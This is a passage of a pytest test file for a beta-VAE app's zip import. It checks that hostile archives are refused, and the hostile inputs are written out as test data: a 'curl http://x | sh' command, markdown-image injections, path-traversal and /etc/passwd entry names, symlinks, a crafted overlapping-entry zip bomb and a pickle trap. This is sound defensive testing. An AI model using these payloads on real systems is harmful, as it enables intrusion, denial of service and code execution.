"""What leaves as a zip file comes back bit for bit, and what is bad is refused with its reason and leaves nothing."""

from __future__ import annotations

import contextlib
import gzip
import io
import json
import os
import pickle
import stat
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import IO, Any

import numpy as np
import pytest
import safetensors.numpy
import safetensors.torch
import torch

from bvae import archive
from bvae.archive import PickleError, import_run, import_weights, pack_run
from bvae.cli import main
from bvae.config import Config
from bvae.runs import UNFINISHED, Run, RunError, RunWriter, read_tensors, remove_unfinished, write_tensors
from bvae.training import StoppedError, train_run

ROOT = Path(__file__).resolve().parents[2]
DEFLATED = zipfile.ZIP_DEFLATED
CONFIG = Config(network="mlp", latent_dim=3, epochs=2, batch_size=100, dataset_limit=300, probe_size=20, device="cpu")


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Run:
    """A run of real images, stopped after its first epoch, so that there is something to resume."""
    path = tmp_path_factory.mktemp("trained") / "mine"
    seen: list[int] = []
    with contextlib.suppress(StoppedError):
        for record in train_run(path, CONFIG, stop=lambda: 1 in seen):
            seen.append(record["epoch"])
    return Run(path)


@pytest.fixture
def runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder that runs come into, empty."""
    monkeypatch.setenv("BVAE_RUNS", str(tmp_path / "runs"))
    return tmp_path / "runs"


@pytest.fixture(scope="module")
def packed(trained: Run) -> dict[str, bytes]:
    """What a good zip file holds, by name."""
    with zipfile.ZipFile(pack(trained)) as file:
        return {name: file.read(name) for name in file.namelist()}


def pack(run: Run, **options: Any) -> io.BytesIO:
    target = io.BytesIO()
    pack_run(run, target, **options)
    return target


def zipped(content: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> io.BytesIO:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", compression) as file:
        for name, value in content.items():
            file.writestr(name, value)
    return target


def assert_same(first: Run, second: Run) -> None:
    """Everything of two runs but their names is the same, bit for bit."""
    assert first.config == second.config
    assert first.history() == second.history()
    assert first.epochs() == second.epochs() != []
    for epoch in first.epochs():
        mine, other = first.weights(epoch), second.weights(epoch)
        assert all(np.array_equal(mine[name], other[name]) for name in {*mine, *other})
        for left, right in zip(first.latents(epoch), second.latents(epoch), strict=True):
            assert np.array_equal(left, right)
    for left, right in zip(first.probe(), second.probe(), strict=True):
        assert np.array_equal(left, right)


# Out and in ------------------------------------------------------------------------------------------------------


def test_a_run_comes_back_as_it_left(trained: Run, runs: Path) -> None:
    run, wanted = import_run(pack(trained), "whatever.zip")
    assert (run.path, wanted) == (runs / "mine", "mine")
    assert_same(run, trained)
    assert run.status() == {"state": "stopped", "epoch": 1, "step": 0, "epochs": 2}
    assert [path.name for path in runs.iterdir()] == ["mine"]


def test_a_run_that_came_in_is_resumed_to_the_same_bits(trained: Run, runs: Path, tmp_path: Path) -> None:
    run, _ = import_run(pack(trained), "mine.zip")
    list(train_run(run.path, resume=True))
    list(train_run(tmp_path / "whole", CONFIG))
    assert_same_weights(run, Run(tmp_path / "whole"))
    assert run.status()["state"] == "finished"


def assert_same_weights(first: Run, second: Run) -> None:
    mine, other = first.weights(), second.weights()
    assert all(np.array_equal(mine[name], other[name]) for name in other)


def test_without_the_state_it_is_smaller_and_cannot_be_resumed(trained: Run, runs: Path) -> None:
    whole, part = pack(trained), pack(trained, resumable=False)
    assert part.tell() < 0.7 * whole.tell()
    run, _ = import_run(part, "mine.zip")
    assert_same(run, trained)
    with pytest.raises(RunError, match=r"state\.safetensors is missing, so the run cannot be continued"):
        list(train_run(run.path, resume=True))


def test_no_run_is_overwritten_and_bundled_names_are_taken_too(
    trained: Run, runs: Path, packed: dict[str, bytes]
) -> None:
    names = [import_run(pack(trained), "x.zip").run.name for _ in range(3)]
    assert names == ["mine", "mine-2", "mine-3"]
    bundled = {name.replace("mine/", "mnist-beta4/"): value for name, value in packed.items()}
    assert import_run(zipped(bundled), "x.zip").run.name == "mnist-beta4-2"


@pytest.mark.parametrize(
    ("top", "file_name", "name"),
    [
        ("", "a run.zip", "a-run"),
        ("", "../../etc.zip", "etc"),
        ("", "…zip", "zip"),
        ("", "πρώτο.zip", "run"),
        ("two words (1)/", "x.zip", "two-words-1-"),
        ("-x/", "x.zip", "x"),
        ("runs/mine/", "x.zip", "mine"),
        ("./mine/", "x.zip", "mine"),
        ("a/./b/c/d/mine/", "x.zip", "mine"),
        ("мой β-запуск/", "x.zip", "run"),
        ("Übung café/", "x.zip", "Ubung-cafe"),
        ("aux/", "x.zip", "run-aux"),
        ("com1.old/", "x.zip", "run-com1.old"),
        ("mine./", "x.zip", "mine"),
        ("mine\\", "x.zip", "mine"),
        ("runs\\mine\\", "x.zip", "mine"),
    ],
)
def test_a_zip_with_the_run_at_any_depth_and_under_any_name(
    runs: Path, trained: Run, packed: dict[str, bytes], top: str, file_name: str, name: str
) -> None:
    def place(inside: str) -> str:
        moved = inside.replace("mine/", top)
        return moved.replace("/", "\\") if "\\" in top else moved

    taken = import_run(zipped({place(inside): value for inside, value in packed.items()}), file_name)
    assert taken.run.name == name
    assert_same(taken.run, trained)
    own = top.rstrip("/\\").replace("\\", "/").rpartition("/")[2] or Path(file_name).stem
    said = "" if own == name else f"“{own}” cannot name a run here, so its name is now {name}."
    assert taken.renaming() == said


def test_a_name_that_is_taken_is_said(trained: Run, runs: Path, packed: dict[str, bytes]) -> None:
    import_run(pack(trained), "x.zip")
    assert import_run(pack(trained), "x.zip").renaming() == "There is a mine already, which stays as it is."
    moved = {inside.replace("mine/", "mine./"): value for inside, value in packed.items()}
    assert import_run(zipped(moved), "x.zip").renaming() == (
        "There is a mine already, which stays as it is. “mine.” cannot name a run here, so its name is now mine-3."
    )


def test_what_desktops_add_to_a_zip_is_left_out(runs: Path, packed: dict[str, bytes]) -> None:
    noise = [
        "__MACOSX/mine/._config.json",
        "mine/.DS_Store",
        "mine/epochs/._0000.safetensors",
        "mine/lock",
        "Thumbs.db",
        "./",
        "./mine/./",
    ]
    run, _ = import_run(zipped(packed | dict.fromkeys(noise, b"x") | {"mine/": b"", "mine/epochs/": b""}), "x.zip")
    names = {path.relative_to(run.path).as_posix() for path in run.path.rglob("*") if path.is_file()}
    assert names == {name.removeprefix("mine/") for name in packed}


@pytest.mark.parametrize("state", ["running", "queued", "nonsense", None])
def test_a_run_that_came_in_is_not_in_training(runs: Path, packed: dict[str, bytes], state: str | None) -> None:
    content = dict(packed)
    del content["mine/status.json"]
    if state:
        status = {"state": state, "pid": 1, "host": "h", "heartbeat": 9e12, "error": "![](http://x/)"}
        content["mine/status.json"] = json.dumps(status).encode()
    run, _ = import_run(zipped(content), "x.zip")
    assert run.status() == {"state": "stopped", "epoch": 1, "step": 0, "epochs": 2}


def test_a_command_that_came_in_is_never_shown(runs: Path, packed: dict[str, bytes]) -> None:
    record = json.loads(packed["mine/config.json"]) | {"command": "curl http://x | sh", "other": "![](http://x)"}
    run, _ = import_run(zipped(packed | {"mine/config.json": json.dumps(record).encode()}), "x.zip")
    assert run.command() == CONFIG.command(str(run.path))
    assert "other" not in run.details


def test_a_run_in_training_is_packed_as_of_its_history(trained: Run, runs: Path, packed: dict[str, bytes]) -> None:
    run, _ = import_run(pack(trained), "x.zip")
    for kind in ("epochs", "latents"):  # the trainer has written a snapshot, and not yet its line of history
        (run.path / kind / "0002.safetensors").write_bytes((run.path / kind / "0001.safetensors").read_bytes())
    (run.path / "latents" / "0000.safetensors").unlink()  # and is dropping another
    with zipfile.ZipFile(pack(run)) as file:
        assert [name for name in file.namelist() if "epochs" in name or "latents" in name] == [
            "mine/epochs/0001.safetensors",
            "mine/latents/0001.safetensors",
        ]


def test_what_else_lies_in_a_run_folder_is_not_packed(trained: Run, runs: Path, tmp_path: Path) -> None:
    run, _ = import_run(pack(trained), "x.zip")
    (run.path / "notes.txt").write_text("mine")
    (tmp_path / "secret").write_text("{}")
    (run.path / "metrics.json").symlink_to(tmp_path / "secret")
    with zipfile.ZipFile(pack(run)) as file:
        assert not {"mine/notes.txt", "mine/metrics.json"} & set(file.namelist())


# Refused ---------------------------------------------------------------------------------------------------------


Change = Callable[..., Any]  # of the content of a good zip file, and of a folder where one is asked for


def renamed(new: str) -> Change:
    """A zip with one file more, of this name."""
    return lambda content: content | {new: b"{}"}


def replaced(name: str, value: bytes | None) -> Change:
    def change(content: dict[str, bytes]) -> dict[str, bytes]:
        rest = {key: old for key, old in content.items() if key != f"mine/{name}"}
        return rest if value is None else rest | {f"mine/{name}": value}

    return change


def with_json(name: str, **values: Any) -> Change:
    def change(content: dict[str, bytes]) -> dict[str, bytes]:
        record = json.loads(content[f"mine/{name}"]) | values
        return content | {f"mine/{name}": json.dumps(record).encode()}

    return change


def with_config(**values: Any) -> Change:
    def change(content: dict[str, bytes]) -> dict[str, bytes]:
        record = json.loads(content["mine/config.json"])
        record["config"] |= values
        return content | {"mine/config.json": json.dumps(record).encode()}

    return change


def with_record(**values: Any) -> Change:
    """The last line of history changed."""

    def change(content: dict[str, bytes]) -> dict[str, bytes]:
        *lines, last = content["mine/history.jsonl"].decode().splitlines()
        lines.append(json.dumps(json.loads(last) | values))
        return content | {"mine/history.jsonl": "\n".join(lines).encode()}

    return change


def with_tensors(name: str, change_tensors: Callable[[dict[str, np.ndarray]], dict[str, np.ndarray]]) -> Change:
    """A safetensors file changed by somebody who knows how to write its hash."""

    def change(content: dict[str, bytes], folder: Path) -> dict[str, bytes]:
        path = folder / "tensors"
        path.write_bytes(content[f"mine/{name}"])
        tensors, metadata = read_tensors(path)
        write_tensors(path, change_tensors(tensors), metadata)
        return content | {f"mine/{name}": path.read_bytes()}

    return change


def first(change: Callable[[np.ndarray], np.ndarray]) -> Callable[[dict[str, np.ndarray]], dict[str, np.ndarray]]:
    """The first tensor by name changed."""
    return lambda tensors: tensors | {min(tensors): change(tensors[min(tensors)])}


def set_first(value: float) -> Callable[[np.ndarray], np.ndarray]:
    def change(array: np.ndarray) -> np.ndarray:
        changed = array.copy()
        changed.flat[0] = value
        return changed

    return change


def flipped(name: str) -> Change:
    def change(content: dict[str, bytes]) -> dict[str, bytes]:
        value = bytearray(content[f"mine/{name}"])
        value[-2] ^= 1
        return content | {f"mine/{name}": bytes(value)}

    return change


SNAPSHOT = "epochs/0001.safetensors"
BAD: dict[str, tuple[Change, str]] = {
    "path outside": (renamed("mine/../../outside.json"), "'mine/../../outside.json' leads out of its folder"),
    "path outside at once": (renamed("../outside.json"), "leads out of its folder"),
    "absolute path": (renamed("/etc/passwd"), "'/etc/passwd' is no path inside a folder"),
    "backslash": (renamed("mine\\..\\outside.json"), "leads out of its folder"),
    "backslash at once": (renamed("..\\outside.json"), "leads out of its folder"),
    "network path": (renamed("\\\\server\\share\\outside.json"), "is no path inside a folder"),
    "drive letter and backslash": (renamed("C:\\outside.json"), "is no path inside a folder"),
    "backslash twice": (renamed("mine\\config.json"), "'mine\\\\config.json' twice"),
    "pickle behind a backslash": (renamed("mine\\model.pt"), "is a pickle"),
    "drive letter": (renamed("C:/outside.json"), "'C:/outside.json' is no path inside a folder"),
    "empty part": (renamed("mine//config.json"), "leads out of its folder"),
    "control character": (renamed("mine/con\nfig.json"), "is no path inside a folder"),
    "pickle inside": (renamed("mine/model.pt"), "'mine/model.pt' in bad.zip is a pickle"),
    "program": (renamed("mine/run.sh"), "holds 'run.sh', which is no part of a run"),
    "file outside the top folder": (renamed("notes.txt"), "holds 'notes.txt', which is no part of a run"),
    "file of a run outside it": (renamed("layout.json"), "holds 'layout.json', which is no part of a run"),
    "two runs at two depths": (renamed("mine/epochs/x/config.json"), "holds 2 runs. Give them one at a time"),
    "folder in a folder": (renamed("mine/epochs/x/0001.safetensors"), "is no part of a run"),
    "epoch written otherwise": (renamed("mine/epochs/00001.safetensors"), "is no part of a run"),
    "letter case twice": (renamed("mine/CONFIG.json"), "twice"),
    "two runs": (renamed("other/config.json"), "holds 2 runs. Give them one at a time"),
    "too many files": (
        lambda content: content | {f"mine/epochs/{n:04}.safetensors": b"" for n in range(2000)},
        "more than 2,000 files",
    ),
    "bomb": (
        lambda _: zipped({"config.json": b"{}", "history.jsonl": b"\n" * 2**21}, DEFLATED),
        "unpack to more than 100 times its size",
    ),
    "huge JSON": (lambda content: zipped(content | {"mine/layout.json": bytes(17 * 2**20)}), "of more than 4.19 MB"),
    "no config": (replaced("config.json", None), "has no config.json, so it is not a run"),
    "config is no JSON": (replaced("config.json", b"{"), "config.json cannot be read as JSON"),
    "config nested too deeply": (replaced("config.json", b"[" * 100_000), "config.json cannot be read as JSON"),
    "config of another format": (with_json("config.json", format=99), "it was written by another version"),
    "image shape": (with_json("config.json", image_shape=[10**6, 10**6]), "config.json does not describe a run"),
    "class names": (with_json("config.json", class_names=["x" * 1_001] * 10), "config.json does not describe a run"),
    "too few class names": (with_json("config.json", class_names=["0"]), "does not hold the images of a probe set"),
    "data of another kind": (with_json("config.json", data=[1]), "config.json does not describe a run"),
    "unknown setting": (with_config(latent_dims=3), "Unknown setting: latent_dims"),
    "latent_dim that does not fit": (with_config(latent_dim=4), "history.jsonl is damaged"),
    "network that does not fit": (with_config(network="conv"), "does not fit the run's config"),
    "huge latent_dim": (with_config(latent_dim=10**9), "latent_dim is 1000000000, and must be 1000 or less"),
    "no history": (replaced("history.jsonl", None), "history.jsonl does not tell of epoch 1"),
    "history of other epochs": (with_record(epoch=7), "line 2 is not the record of epoch 1"),
    "history with a text for a number": (
        with_record(test={"loss": "<b>"}),
        "line 2.test.loss is <b>, and should be a number",
    ),
    "history without a weight": (with_record(beta="<b>"), "line 2.beta is <b>, and should be a number"),
    "history with NaN": (
        with_record(kl_per_dimension=[float("nan")] * 3),
        "line 2.kl_per_dimension should hold numbers",
    ),
    "history of too many dimensions": (
        with_record(kl_per_dimension=[0.0] * 4),
        "line 2.kl_per_dimension should be a list of 3",
    ),
    "no probe": (replaced("probe.safetensors", None), "probe.safetensors is missing"),
    "probe labels": (
        with_tensors("probe.safetensors", lambda old: old | {"labels": old["labels"] + 10}),
        "does not hold the images of a probe set",
    ),
    "no latents": (replaced("latents/0000.safetensors", None), "latents/0000.safetensors is missing"),
    "latents of other images": (
        with_tensors("latents/0001.safetensors", lambda old: {name: array[:5] for name, array in old.items()}),
        "the latents of epoch 1 are not of the 20 images",
    ),
    "a film that is none": (
        lambda content: content | {"mine/layout.safetensors": content["mine/probe.safetensors"]},
        "does not hold the film of a run",
    ),
    "weights that are none": (replaced(SNAPSHOT, b"x" * 100), "epochs/0001.safetensors is damaged"),
    "weights cut short": (
        lambda content: content | {f"mine/{SNAPSHOT}": content[f"mine/{SNAPSHOT}"][:-4]},
        "is damaged",
    ),
    "header that lies": (replaced(SNAPSHOT, struct.pack("<Q", 2**60) + b"{}"), "epochs/0001.safetensors is damaged"),
    "weights with another hash": (flipped(SNAPSHOT), "does not match the hash"),
    "weights of a wrong shape": (
        with_tensors(SNAPSHOT, first(lambda array: array[:-1])),
        "does not fit the run's config",
    ),
    "weights missing": (
        with_tensors(SNAPSHOT, lambda old: {name: old[name] for name in sorted(old)[1:]}),
        "is missing, and should be",
    ),
    "weights too many": (
        with_tensors(SNAPSHOT, lambda old: old | {"extra": np.zeros(3, np.float32)}),
        "extra is (3,), and should be absent",
    ),
    "weights with NaN": (with_tensors(SNAPSHOT, first(set_first(np.nan))), "not finite numbers"),
    "weights with infinity": (with_tensors(SNAPSHOT, first(set_first(-np.inf))), "not finite numbers"),
    "weights of float64": (
        with_tensors(SNAPSHOT, first(lambda array: array.astype(np.float64))),
        "as float64, and should as float32",
    ),
    "state of another run": (
        with_tensors("state.safetensors", lambda old: {"sums": old["sums"]}),
        "state.safetensors does not fit the run's config",
    ),
    "no snapshot": (
        lambda content: {name: value for name, value in content.items() if "epochs/" not in name},
        "it has no snapshot",
    ),
}


@pytest.mark.parametrize("bad", BAD)
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_bad_run_is_refused_with_its_reason_and_leaves_nothing(
    runs: Path, tmp_path: Path, packed: dict[str, bytes], bad: str
) -> None:
    change, sentence = BAD[bad]
    arguments = (packed, tmp_path) if change.__code__.co_argcount == 2 else (packed,)
    content = change(*arguments)
    assert_refused(content if isinstance(content, io.BytesIO) else zipped(content), sentence, runs)
    assert not (tmp_path / "outside.json").exists()


def assert_refused(file: io.BytesIO, sentence: str, runs: Path, name: str = "bad.zip") -> str:
    with pytest.raises(RunError) as caught:
        import_run(file, name)
    message = str(caught.value)
    assert sentence in message
    assert message.startswith((name, "'")), "it says which file"
    assert ".import-" not in message, "the hidden folder is nobody's business"
    assert "other epochs" not in message
    assert not runs.exists() or list(runs.iterdir()) == []
    return message


def entry(name: str, **fields: Any) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    for field, value in fields.items():
        setattr(info, field, value)
    return info


@pytest.mark.parametrize("kind", [stat.S_IFLNK, stat.S_IFIFO, stat.S_IFCHR])
def test_links_and_devices_are_refused(runs: Path, packed: dict[str, bytes], kind: int) -> None:
    target = zipped(packed)
    with zipfile.ZipFile(target, "a") as file:
        file.writestr(entry("mine/metrics.json", external_attr=(kind | 0o777) << 16), "/etc/passwd")
    assert_refused(target, "'mine/metrics.json' is a link or a device, not a file. Nothing was unpacked.", runs)


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_an_entry_that_comes_twice_is_refused(runs: Path, packed: dict[str, bytes]) -> None:
    target = zipped(packed)
    with zipfile.ZipFile(target, "a") as file:
        file.writestr("mine/config.json", "{}")
    assert_refused(target, "it holds 'mine/config.json' twice", runs)


def patched(content: bytes, offset: int, value: bytes) -> io.BytesIO:
    """A zip file with a few bytes changed in the list of contents, counted from its first entry."""
    at = content.index(b"PK\x01\x02") + offset
    return io.BytesIO(content[:at] + value + content[at + len(value) :])


def test_an_encrypted_zip_is_refused(runs: Path, packed: dict[str, bytes]) -> None:
    assert_refused(patched(zipped(packed).getvalue(), 8, b"\x01"), "is encrypted", runs)


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_only_ordinary_compression_is_taken(runs: Path, method: int) -> None:
    assert_refused(zipped({"config.json": b"{}"}, method), "is compressed in an unusual way", runs)


def test_a_length_that_lies_is_found_while_unpacking(runs: Path) -> None:
    """The list of contents claims 10 bytes of an entry that unpacks to many more: no more than those are written."""
    content = zipped({"config.json": b"{}" + b" " * 4_000}, DEFLATED).getvalue()
    assert_refused(patched(content, 24, struct.pack("<I", 10)), "is cut short or damaged (Bad CRC-32", runs)


def test_a_claim_of_many_gigabytes_is_refused_before_anything_is_unpacked(
    runs: Path, packed: dict[str, bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    def never(*_: object) -> None:
        raise AssertionError("it was unpacked")

    monkeypatch.setattr(archive, "_unpack", never)
    content = zipped(packed).getvalue()
    assert_refused(patched(content, 24, struct.pack("<I", 2**32 - 2)), "would unpack to 4.3", runs)


def test_entries_that_share_their_bytes_are_weighed_together(runs: Path, packed: dict[str, bytes]) -> None:
    """The better zip bomb (Fifield 2019): a list of many files, all of which lie at one place."""
    one = zipped({"epochs/0000.safetensors": b"\0" * 500_000, "config.json": b"{}"}, DEFLATED).getvalue()
    start = one.index(b"PK\x01\x02")
    record = one[start : one.index(b"PK\x01\x02", start + 1)]
    rest, end = one[start + len(record) : -22], one[-22:]
    names = [f"epochs/{n:04}.safetensors".encode() for n in range(1000)]
    records = b"".join(record.replace(b"epochs/0000.safetensors", name) for name in names) + rest
    counts = struct.pack("<HHII", 1001, 1001, len(records), start)
    assert_refused(
        io.BytesIO(one[:start] + records + end[:8] + counts + end[20:]), "more than 100 times its size", runs
    )


def test_an_endless_list_of_contents_is_not_read(runs: Path) -> None:
    names = {f"{n:0200}": b"" for n in range(5_000)}
    with pytest.raises(RunError, match="list of contents is too long"):
        import_run(zipped(names), "bad.zip")
    assert not runs.exists()


@pytest.mark.parametrize("share", [0.1, 0.5, 0.999])
def test_a_zip_cut_short_is_refused(runs: Path, trained: Run, share: float) -> None:
    content = pack(trained).getvalue()
    assert_refused(io.BytesIO(content[: int(share * len(content))]), "is cut short or damaged", runs)


def test_bytes_changed_anywhere_are_refused_or_harmless(runs: Path, trained: Run) -> None:
    """Nothing but a sentence comes of a zip file with changed bytes, whichever they are."""
    content = pack(trained, resumable=False).getvalue()
    end = len(content) - content.index(b"PK\x01\x02")
    generator = np.random.default_rng(0)
    refused = 0
    for place in [*generator.integers(0, len(content), 10), *(len(content) - generator.integers(1, end, 40))]:
        changed = bytearray(content)
        changed[place] ^= int(generator.integers(1, 256))
        try:
            import_run(io.BytesIO(bytes(changed)), "bad.zip")
        except RunError:
            refused += 1
    assert refused > 10
    assert not [path for path in runs.glob(".*") if path.name.startswith(".import-")]


@pytest.mark.parametrize(
    ("content", "kind"),
    [(b"", "empty"), (b"PK", "a text file"), (b"\x1f\x8b\x08\x00 gzip", "a gzip archive"),
     (b"Rar!\x1a\x07\x00", "a RAR archive"), (b"{}", "a JSON file"), (bytes(99), "of no kind that is known here")],
)  # fmt: skip
def test_what_is_no_zip_file_is_refused(runs: Path, content: bytes, kind: str) -> None:
    assert_refused(io.BytesIO(content), f"bad.zip is {kind}. Here goes a run as one zip file", runs)


def test_an_empty_zip_is_no_run(runs: Path) -> None:
    assert_refused(zipped({}), "has no config.json, so it is not a run", runs)


@pytest.mark.parametrize("new_format", [True, False])
def test_a_checkpoint_of_pytorch_is_refused_with_what_converts_it(runs: Path, tmp_path: Path, new_format: bool) -> None:
    layer = torch.nn.Linear(3, 2)
    for name in ("model.pt", "model.zip"):
        path = tmp_path / name
        torch.save(layer.state_dict(), path, _use_new_zipfile_serialization=new_format)
        with pytest.raises(PickleError, match="can run any program when it is opened, so it is not opened here"):
            import_run(io.BytesIO(path.read_bytes()), name)
        with pytest.raises(PickleError):
            import_weights(io.BytesIO(path.read_bytes()), name, io.BytesIO(b"{}"), "config.json")
    assert not runs.exists()
    # What it tells its owner to do does it.
    code = archive.CONVERT.replace('"model', f'"{tmp_path}/model')
    exec(code, {})
    converted = safetensors.torch.load_file(tmp_path / "model.safetensors")
    assert torch.equal(converted["weight"], layer.weight)


def every_kind(trained: Run) -> dict[str, tuple[bytes, str]]:
    """Files that people have, by name, and what each is called wherever another is asked for."""
    arrays = io.BytesIO()
    np.savez(arrays, *trained.weights(1).values())
    web_page = b"\n<!DOCTYPE html>\n<html><title>Sign in</title></html>"
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\nsize 2616400\n"
    picture = (Path(archive.__file__).parents[1] / "assets" / "screenshots" / "home-light.png").read_bytes()
    return {
        "mine.zip": (pack(trained).getvalue(), "mine.zip is a run as one zip file."),
        "weights.npz": (arrays.getvalue(), "weights.npz is an archive of NumPy arrays (.npz)."),
        "page.safetensors": (web_page, "page.safetensors is a web page (HTML), and not the file itself."),
        "page.pt": (web_page, "page.pt is a web page (HTML), and not the file itself."),
        "pytorch_model.bin": (pointer, "pytorch_model.bin is a Git LFS pointer,"),
        "config.json": (config_of(trained).getvalue(), "config.json is a JSON file."),
        "notes.txt": ("β = 4, 100 epochs\n".encode(), "notes.txt is a text file."),
        "mine.tar.gz": (gzip.compress(b"x" * 99), "mine.tar.gz is a gzip archive."),
        "three.png": (picture, "three.png is a picture (PNG)."),
        "0001.safetensors": (weights_of(trained, 1).getvalue(), "0001.safetensors is a safetensors file."),
        "docs.zip": (zipped({"a.txt": b"a"}).getvalue(), "docs.zip is a zip file without a run in it."),
        "cut.zip": (pack(trained).getvalue()[:9_000], "cut.zip is a zip file that is cut short or damaged."),
    }


def test_what_comes_to_the_wrong_door_is_called_what_it_is(trained: Run, runs: Path) -> None:
    weights, config = weights_of(trained, 1), config_of(trained)
    for name, (content, sentence) in every_kind(trained).items():
        file = io.BytesIO(content)
        doors: list[tuple[str, Callable[[IO[bytes], str], Any]]] = [
            (".zip", import_run),
            (".safetensors", lambda file, name: import_weights(file, name, config, "c.json")),
            (".json", lambda file, name: import_weights(weights, "w", file, name)),
        ]
        for suffix, bring in doors:
            if not name.endswith(suffix) or name == "page.safetensors":
                with pytest.raises(RunError) as caught:
                    bring(file, name)
                assert str(caught.value).startswith(sentence)
                assert "pickle" not in str(caught.value)
                assert not isinstance(caught.value, PickleError)
    assert not runs.exists()


@pytest.mark.parametrize("protocol", range(6))
def test_a_pickle_is_known_for_one_at_every_door(trained: Run, runs: Path, protocol: int) -> None:
    content = pickle.dumps({"fc1.weight": [0.5] * 10}, protocol)
    for name in ("model.pkl", "model.safetensors")[: 2 if protocol > 1 else 1]:
        with pytest.raises(PickleError):
            import_run(io.BytesIO(content), name)
        with pytest.raises(PickleError):
            import_weights(io.BytesIO(content), name, config_of(trained), "config.json")
        with pytest.raises(PickleError):
            import_weights(weights_of(trained, 1), "w.safetensors", io.BytesIO(content), name)
    assert not runs.exists()


def test_a_pickle_is_not_opened(runs: Path) -> None:
    class Trap:
        def __reduce__(self) -> tuple[Any, ...]:
            return (Path.touch, (runs.with_name("sprung"),))

    with pytest.raises(PickleError):
        import_run(io.BytesIO(pickle.dumps(Trap())), "run.zip")
    assert not runs.with_name("sprung").exists()


def test_a_folder_that_cannot_be_written_is_said(trained: Run, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(RunError, match=r"Cannot write to .*file"):
        import_run(pack(trained), "x.zip", tmp_path / "file")


# Takes a run in, and is met in the middle of it.
IMPORT = """
import sys, time
from pathlib import Path
from bvae import archive
archive._unpack = lambda *_: (print("unpacking", flush=True), time.sleep(600))
archive.import_run(open(sys.argv[1], "rb"), "mine.zip", Path(sys.argv[2]))
"""


def test_what_a_killed_import_left_is_cleared_away_and_a_living_one_stays(trained: Run, runs: Path) -> None:
    packed = runs.parent / "mine.zip"
    packed.write_bytes(pack(trained).getvalue())
    importing = [
        subprocess.Popen([sys.executable, "-c", IMPORT, packed, runs], stdout=subprocess.PIPE, cwd=ROOT) for _ in "ab"
    ]
    try:
        for process in importing:
            assert process.stdout is not None
            assert process.stdout.readline() == b"unpacking\n"
        unfinished = set(runs.glob(f"{UNFINISHED}*"))
        assert len(unfinished) == 2
        importing[0].kill()
        importing[0].wait()
        for left in unfinished:
            os.utime(left, (time.time() - 60,) * 2)
        import_run(pack(trained), "x.zip")
        (living,) = runs.glob(f"{UNFINISHED}*")
        assert living in unfinished
    finally:
        for process in importing:
            process.kill()
            process.wait()
    remove_unfinished(runs)  # as the app does when it starts
    assert [path.name for path in runs.iterdir()] == ["mine"]


# Weights with their config ---------------------------------------------------------------------------------------


def weights_of(run: Run, epoch: int) -> io.BytesIO:
    return io.BytesIO((run.path / "epochs" / f"{epoch:04}.safetensors").read_bytes())


def config_of(run: Run) -> io.BytesIO:
    return io.BytesIO((run.path / "config.json").read_bytes())


def test_weights_with_their_config_become_a_run(trained: Run, runs: Path) -> None:
    run, _ = import_weights(weights_of(trained, 1), "0001.safetensors", config_of(trained), "config.json")
    assert run.path == runs / "mnist-mlp-beta4"
    assert run.epochs() == [0]
    assert run.details["imported"] is True
    assert_same_weights(run, trained)
    (record,) = run.history()
    expected = trained.history()[1]
    assert record["test"]["images"] == 10_000
    for name in ("reconstruction", "kl", "loss"):
        assert record["test"][name] == pytest.approx(expected["test"][name], rel=1e-5)
    np.testing.assert_allclose(record["kl_per_dimension"], expected["kl_per_dimension"], rtol=1e-5)
    np.testing.assert_allclose(run.latents().mean, trained.latents(1).mean, atol=1e-5)
    assert np.array_equal(run.probe().images, trained.probe().images)
    assert run.status()["state"] == "finished"
    with pytest.raises(RunError, match="so the run cannot be continued"):
        list(train_run(run.path, resume=True))
    again, _ = import_run(pack(run), "x.zip")
    assert_same(run, again)


def test_weights_of_another_program_need_no_hash_and_settings_alone_will_do(trained: Run, runs: Path) -> None:
    content = safetensors.numpy.save(trained.weights(1))
    settings = json.dumps({"network": "mlp", "latent_dim": 3, "probe_size": 20}).encode()
    run, wanted = import_weights(io.BytesIO(content), "my weights.safetensors", io.BytesIO(settings), "settings.json")
    assert (run.name, wanted) == ("my-weights", "my weights")
    assert_same_weights(run, trained)


WEIGHTS: dict[str, tuple[Callable[[dict[str, np.ndarray]], dict[str, np.ndarray]], str]] = {
    "shape": (first(lambda array: array[:-1]), "does not fit the run's config: decoder.0.bias is (399,)"),
    "missing": (lambda old: {name: old[name] for name in sorted(old)[1:]}, "decoder.0.bias is missing"),
    "extra": (lambda old: old | {"extra": np.zeros(2, np.float32)}, "extra is (2,), and should be absent"),
    "NaN": (first(set_first(np.nan)), "not finite numbers"),
    "infinity": (first(set_first(np.inf)), "not finite numbers"),
    "whole numbers": (first(lambda array: array.astype(np.int64)), "holds decoder.0.bias as I64"),
    "beyond float32": (first(lambda array: array.astype(np.float64) + 1e300), "not finite numbers in float32"),
    "beyond all measure": (lambda old: {name: array * 1e30 for name, array in old.items()}, "no finite number"),
}


@pytest.mark.parametrize("bad", WEIGHTS)
def test_bad_weights_are_refused(trained: Run, runs: Path, bad: str) -> None:
    change, sentence = WEIGHTS[bad]
    content = safetensors.numpy.save({name: np.ascontiguousarray(a) for name, a in change(trained.weights(1)).items()})
    with pytest.raises(RunError) as caught:
        import_weights(io.BytesIO(content), "bad.safetensors", config_of(trained), "config.json")
    assert str(caught.value).startswith("bad.safetensors")
    assert sentence in str(caught.value)
    assert list(runs.iterdir()) == []


@pytest.mark.parametrize(
    ("config", "sentence"),
    [
        (b"", "is no config of this program"),
        (b"[]", "it is no JSON object"),
        (b"\xff\xfe", "is no config of this program"),
        (b'{"latent_dim": 0}', "latent_dim is 0, and must be 1 or more"),
        (b'{"colour": 1}', "Unknown setting: colour"),
        (b'{"network": "mlp", "latent_dim": 5}', "decoder.0.weight is (400, 3), and should be (400, 5)"),
